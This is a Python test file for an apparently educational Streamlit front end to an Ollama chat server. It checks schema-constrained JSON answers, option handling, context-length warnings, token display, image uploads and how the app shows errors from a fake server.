def test_a_schema_answer_is_shown_as_a_table(monkeypatch, fake_ollama):
    fake_ollama.stream("POST", "/api/chat", fixture_lines("today-chat-schema"))
    app = choose_schema(open_chat(monkeypatch, fake_ollama.url, "es"))
    assert json.loads(app.text_area(key="chat.setting.schema").value)["required"] == ["pais", "capital", "poblacion"]
    say(app, "Háblame de Perú")
    body = fake_ollama.bodies("/api/chat")[0]
    assert body["format"] == json.loads(app.text_area(key="chat.setting.schema").value)
    assert "✓ JSON válido que cumple el esquema." in texts(app)
    assert app.dataframe[0].value.values.tolist() == [["pais", "Perú"], ["capital", "Lima"], ["poblacion", "34000000"]]
    app.button(key="chat.schema.load.recipe").click().run()  # a ready schema, in the student's language
    assert "ingredientes" in app.text_area(key="chat.setting.schema").value


def test_an_answer_that_does_not_match_lists_what_and_keeps_the_conversation(monkeypatch, fake_ollama):
    fake_ollama.stream("POST", "/api/chat", answer_lines('{"country": "Peru", "population": "34 million"}'))
    app = choose_schema(open_chat(monkeypatch, fake_ollama.url))  # English: the English field names
    say(app, "Tell me about Peru")
    [warning] = values(app.warning)
    assert warning.startswith("The answer is JSON, but 2 things do not match the schema ($ is the whole answer):")
    assert "- `$`: 'capital' is a required property" in warning
    assert "- `$.population`: '34 million' is not of type 'integer'" in warning
    assert messages(app)[1] == ("assistant", '{"country": "Peru", "population": "34 million"}')
    assert app.dataframe[0].value.values.tolist() == [["country", "Peru"], ["population", "34 million"]]
    fake_ollama.reset()
    say(app, "Again, with the capital")  # the conversation goes on
    assert len(fake_ollama.bodies("/api/chat")[0]["messages"]) == 3


def test_an_answer_that_is_not_json_is_said(monkeypatch, fake_ollama):
    fake_ollama.stream("POST", "/api/chat", answer_lines("Lima es la capital de Perú."))
    app = open_chat(monkeypatch, fake_ollama.url, "es")
    app.selectbox(key="chat.setting.format").set_value("json")
    say(app, "Háblame de Perú")
    assert fake_ollama.bodies("/api/chat")[0]["format"] == "json"
    assert any(w.startswith("La respuesta no es JSON, así que no se puede comprobar: Expecting value")
               for w in values(app.warning))


@pytest.mark.parametrize("text, said", [
    ('{"type": "objeto"}', "That is not a valid JSON Schema (at `$.type`): 'objeto' is not valid under any of the given schemas."),
    ('{"type": "object",', "The schema is not valid JSON, so nothing will be sent: Expecting property name"),
    ('["pais"]', 'The schema must be a JSON object ({ "type": "object", ... }): nothing will be sent.'),
], ids=["not a schema", "not JSON", "not an object"])
def test_a_schema_that_cannot_be_sent_is_refused_before_sending(monkeypatch, fake_ollama, text, said):
    app = choose_schema(open_chat(monkeypatch, fake_ollama.url), text)
    assert any(e.startswith(said) for e in values(app.error)), values(app.error)
    say(app, "Tell me about Peru")
    assert fake_ollama.bodies("/api/chat") == []
    assert any("Fix the flagged options or schema before sending: nothing was sent." in e for e in values(app.error))
    assert messages(app) == [("user", "Tell me about Peru")]  # kept, to send once the schema is fixed


# ------------------------------------------------------------------------- what really runs, lessons
def final_line(prompt_tokens: int, output_tokens: int) -> list[str]:
    return [json.dumps({"model": "gemma:2b", "message": {"role": "assistant", "content": "Hola."}, "done": False}),
            json.dumps({"model": "gemma:2b", "message": {"role": "assistant", "content": ""}, "done": True,
                        "done_reason": "stop", "prompt_eval_count": prompt_tokens, "eval_count": output_tokens,
                        "prompt_eval_duration": 10**9, "eval_duration": 10**9})]


def test_empty_options_say_what_the_chosen_model_runs(monkeypatch, fake_ollama):
    from tests.plugins.fake_ollama import show_body
    fake_ollama.reply("POST", "/api/show", body={**show_body("gemma:2b"),
                                                  "parameters": 'temperature 0.7\ntop_k 20\nstop "<end_of_turn>"'})
    app = open_chat(monkeypatch, fake_ollama.url)
    placeholder = {name: app.number_input(key=f"chat.setting.{name}").placeholder
                   for name in ("temperature", "top_k", "top_p", "num_ctx")}
    assert placeholder == {"temperature": "model: 0.7", "top_k": "model: 20", "top_p": "server: 0.9",
                           "num_ctx": "server: automatic"}
    app.number_input(key="chat.setting.temperature").set_value(0.2).run()
    app.toggle(key="chat.effective").set_value(True).run()
    table = app.table[0].value
    rows = {row["Option"]: (row["Value that will run"], row["Where it comes from"]) for _, row in table.iterrows()}
    assert rows["temperature"] == ("0.2", "your request") and rows["top_k"] == ("20", "model (PARAMETER)")
    assert rows["stop"] == ('["<end_of_turn>"]', "model (PARAMETER)") and rows["top_p"] == ("0.9", "server")
    assert rows["num_ctx"] == ("4096 (now, from /api/ps)", "server")  # gemma:2b is loaded with 4096
    assert "Each option takes its value from the last layer that sets it" in texts(app)


def test_draft_num_predict_is_sent(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    app.text_area(key="chat.setting.advanced").set_value('{"draft_num_predict": 8}').run()
    assert not app.warning
    say(app, "hola")
    assert fake_ollama.bodies("/api/chat")[-1]["options"] == {"draft_num_predict": 8}


def test_a_removed_option_is_sent_with_a_warning_and_a_wrong_type_is_not(monkeypatch, fake_ollama):
    # Ollama ignores a removed option (logging "invalid option provided") but refuses a wrong type
    app = open_chat(monkeypatch, fake_ollama.url)
    app.text_area(key="chat.setting.advanced").set_value('{"mirostat": 2, "num_ctx": 2048.7}').run()
    assert "Ollama removed it in version 0.7.0" in "\n".join(values(app.warning))
    assert "Ollama truncates 2048.7 to 2048" in texts(app)
    say(app, "hola")
    assert fake_ollama.bodies("/api/chat")[-1]["options"] == {"mirostat": 2, "num_ctx": 2048.7}
    sent = len(fake_ollama.bodies("/api/chat"))
    app.text_area(key="chat.setting.advanced").set_value('{"seed": "123"}').run()
    say(app, "otra")
    assert len(fake_ollama.bodies("/api/chat")) == sent
    assert "Fix the flagged options" in "\n".join(values(app.error))


def test_a_conversation_near_num_ctx_is_warned(monkeypatch, fake_ollama):
    fake_ollama.stream("POST", "/api/chat", final_line(3400, 100))
    app = say(open_chat(monkeypatch, fake_ollama.url), "hola")
    warning = "\n".join(values(app.warning))
    assert "already fills 3500 of the 4096 context tokens" in warning and "from /api/ps" in warning
    assert "leaves the oldest part out without a word (in chat mode, the oldest messages" in warning
    app.number_input(key="chat.setting.num_ctx").set_value(8192).run()
    assert not [w for w in values(app.warning) if "already fills" in w]  # 3500 of 8192 is far
    fake_ollama.stream("POST", "/api/chat", final_line(1500, 200))
    app.number_input(key="chat.setting.num_ctx").set_value(2048)
    say(app, "otra")
    assert "already fills 1700 of the 2048 context tokens (the num_ctx you asked for)" in "\n".join(values(app.warning))


def test_the_last_answer_shows_its_tokens(monkeypatch, fake_ollama):
    app = say(open_chat(monkeypatch, fake_ollama.url, "es"), "¿porqué el cielo es azúl?")
    assert "Los tokens de esta respuesta, como llegaron" in [e.label for e in app.expander]
    app.session_state["chat.pieces.1.open"] = True
    app.run()
    assert any(c.value.startswith("El|␣cielo|␣no|␣es|␣az|úl|.") for c in app.code)
    assert "38 trozos de texto; eval_count dice 39 tokens" in texts(app)


def test_the_course_physics_is_a_lesson_and_can_be_asked(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url, "es")
    app.session_state["chat.fluent.open"] = True
    app.run()
    assert "«El cielo no es azúl»" in texts(app) and "dispersión de Rayleigh" in texts(app)
    app.button(key="chat.fluent.ask").click().run()
    assert fake_ollama.bodies("/api/chat")[-1]["messages"][-1] == {"role": "user", "content": "¿Por qué el cielo es azul?"}


@pytest.mark.parametrize("server", ["fake", "builtin"])
def test_asking_for_a_model_that_is_not_installed_shows_the_real_404(monkeypatch, request, server):
    url = request.getfixturevalue("fake_ollama" if server == "fake" else "builtin_server").url
    app = open_chat(monkeypatch, url)
    app.session_state["chat.provoke.open"] = True
    app.run()
    app.button(key="chat.provoke").click().run()
    assert not app.exception
    shown = values(app.error)[0]  # the body as the server wrote it (the fake with spaces, Ollama without)
    assert shown.startswith("Ollama answered **404** with `{") and shown.endswith("}`.")
    assert json.loads(shown.split("`")[1]) == {"error": f"model '{chat.NOT_INSTALLED}' not found"}
    assert f"`ollama pull {chat.NOT_INSTALLED}`" in texts(app)
    assert any(e.label.endswith("POST /api/chat → 404") for e in app.expander)
    assert not session_turns(app)  # the conversation is untouched


def test_an_image_attached_to_a_question_is_sent_in_its_message(monkeypatch, fake_ollama):
    app = open_chat(monkeypatch, fake_ollama.url)
    app.selectbox(key="chat.setting.model").set_value("llava:latest").run()
    png = (ROOT / "assets" / "sample-imagen1.png").read_bytes()
    app.chat_input[0].upload("imagen1.png", png, "image/png").set_value("What is in this image?").run()
    assert not app.exception, [e.value for e in app.exception]
    sent = fake_ollama.bodies("/api/chat")[-1]["messages"][-1]
    assert sent["content"] == "What is in this image?" and sent["images"][0].startswith("iVBORw0KGgo")
    assert "With 1 attached image (sent as base64 in the message's \"images\" field)." in texts(app)
    # a file that is not an image is said, and nothing is asked
    app.chat_input[0].upload("imagen2.png", b"not a picture", "image/png").set_value("And this one?").run()
    assert "This image cannot be sent" in "\n".join(values(app.error))
    assert len(fake_ollama.bodies("/api/chat")) == 1
